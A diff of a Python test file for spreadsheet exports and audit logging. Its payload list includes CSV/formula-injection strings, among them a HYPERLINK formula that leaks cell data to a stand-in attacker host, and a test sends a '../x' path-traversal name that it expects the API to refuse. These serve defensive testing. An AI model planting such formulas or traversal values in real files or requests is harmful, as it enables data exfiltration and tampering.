@@ -9,8 +9,10 @@ import re
 from datetime import UTC, date, datetime
 
 import pandas as pd
+import pytest
 from openpyxl import load_workbook
 
+from dashboard.api_client import ApiClient, ApiError
 from warehouse.exports import inert, to_csv_bytes, to_xlsx_bytes
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
@@ -90,3 +92,25 @@ def test_the_rule_itself():
     assert [inert(v) for v in ("-2+3", "-1e3", "+1+1", "-", "-2 -3")] == [
         "'-2+3", "'-1e3", "'+1+1", "'-", "'-2 -3",
     ]  # fmt: skip
+
+
+
+def test_downloading_a_table_as_shown_is_in_the_audit_log(panel):
+    """The table is made into a file in the panel; the click reports it to the API's audit log."""
+    panel("plans", role="admin")  # signs the admin in, to read the log
+    app = panel("plans", role="analyst")
+    app.download_button(key="plans:xlsx").click().run()
+    assert not app.error, [e.value for e in app.error]
+    admin = ApiClient(panel.api_url, panel.sessions["admin"].token)
+    (entry,) = admin.get("/api/v1/admin/audit", action="export.download")
+    assert (entry["actor_email"], entry["target_type"], entry["target_id"]) == (
+        "analyst@example.com", "panel_table", "plans",
+    )  # fmt: skip
+    assert entry["after"]["format"] == "xlsx" and entry["after"]["rows"] >= 1
+    # A user may not write into the audit log; a name that is not a file name is refused.
+    analyst = ApiClient(panel.api_url, panel.sessions["analyst"].token)
+    for body in ({"name": "../x", "format": "csv", "rows": 1, "columns": []},
+                 {"name": "x", "format": "pdf", "rows": 1, "columns": []}):  # fmt: skip
+        with pytest.raises(ApiError) as refused:
+            analyst.post("/api/v1/admin/audit/downloads", body)
+        assert refused.value.status == 422
